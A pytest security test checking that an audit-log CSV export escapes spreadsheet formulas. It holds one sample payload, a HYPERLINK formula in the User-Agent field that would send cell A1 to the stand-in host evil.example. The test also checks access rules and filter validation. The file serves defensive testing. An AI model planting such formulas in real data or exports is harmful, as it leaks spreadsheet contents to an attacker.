"""CSV injection through the audit export: whatever a visitor controls (their browser's
User-Agent string) must not run as a formula when IT staff open the export in a
spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from .kit import Deployment, scene

pytestmark = pytest.mark.slow

FORMULA_UA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")"


async def test_audit_csv_export_escapes_formulas(deployment: Deployment) -> None:
    async with scene(deployment) as s:
        k = await s.new_class("strict")
        visitor = s.device(user_agent=FORMULA_UA)
        r = await visitor.open(k.token(1))
        assert r.status in (200, 403), r
        await s.await_audit(lambda ev: any(e.get("personal", {}).get("ua") == FORMULA_UA
                                           for e in ev), ip=visitor.ip)
        # teachers do not read the log, in any format
        r = await s.teacher.call("GET", "/api/v1/audit/events.csv", params={"class": k.id})
        assert r.status == 403, r
        r = await s.it.call("GET", "/api/v1/audit/events.csv",
                            params={"class": k.id, "ip": visitor.ip})
        assert r.status == 200, r
        assert r.headers["Content-Type"].startswith("text/csv")
        assert "attachment;" in r.headers["Content-Disposition"]
        rows = list(csv.reader(io.StringIO(r.body.lstrip("\ufeff"))))
        head, body = rows[0], rows[1:]
        assert head[:3] == ["index", "time_utc", "type"] and body
        ua = [row[head.index("user_agent")] for row in body]
        assert "'" + FORMULA_UA in ua
        # no cell of the export starts a formula
        for row in body:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        # unknown filters and absurd limits are refused precisely
        r = await s.it.call("GET", "/api/v1/audit/events.csv", params={"evil": "1"})
        assert r.status == 400 and r.body["error"]["field"] == "evil", r
        r = await s.it.call("GET", "/api/v1/audit/events.csv", params={"limit": "999999"})
        assert r.status == 400 and r.body["error"]["field"] == "limit", r
        # the export is itself an audit read, with the filters kept erasable
        reads = await s.await_audit(
            lambda ev: any((e.get("facts") or {}).get("format") == "csv" for e in ev),
            type="audit.read")
        mine = [e for e in reads if (e.get("facts") or {}).get("format") == "csv"]
        assert mine[0]["facts"]["filters"] == ["class", "ip"]
        assert visitor.ip not in str(mine[0]["facts"])
